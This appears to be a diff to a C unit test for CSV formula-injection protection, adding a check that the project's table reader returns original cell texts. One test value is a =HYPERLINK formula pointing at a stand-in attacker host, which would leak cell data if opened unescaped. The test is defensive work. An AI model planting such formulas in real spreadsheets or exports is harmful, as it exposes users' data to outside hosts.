@@ -5,6 +5,7 @@
 
 #include "jln-csv.h"
 #include "jln-json.h"
+#include "jln-table.h"
 
 #include "jln-test-utils.h"
 
@@ -124,6 +125,34 @@ test_csv_formula_injection (void)
   g_assert_null (strstr (csv, ",\"="));
   g_assert_null (strstr (csv, ",\"+"));
   g_assert_null (strstr (csv, ",\"@"));
+
+  /* Jalons' own reader gives the texts back as they were. */
+  {
+    g_autoptr(GPtrArray) tables = jln_table_read_text (csv, strlen (csv), "f.csv", 0, &error);
+    gboolean found_formula = FALSE, found_unit = FALSE, found_tab = FALSE;
+    JlnTable *table;
+
+    g_assert_no_error (error);
+    g_assert_cmpuint (tables->len, ==, 1);
+    table = g_ptr_array_index (tables, 0);
+    for (guint i = 0; i < table->rows->len; i++)
+      {
+        const JlnTableRow *row = g_ptr_array_index (table->rows, i);
+
+        for (guint j = 0; j < row->n_cells; j++)
+          {
+            const char *cell = jln_table_row_get_cell (row, j);
+
+            g_assert_false (cell[0] == '\'' && jln_csv_is_formula_start (cell[1]));
+            found_formula |= g_str_equal (cell, "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
+            found_unit |= g_str_equal (cell, "@SUM(A1)");
+            found_tab |= g_str_equal (cell, "\tTabbed");
+          }
+      }
+    g_assert_true (found_formula);
+    g_assert_true (found_unit);
+    g_assert_true (found_tab);
+  }
 }
 
 int
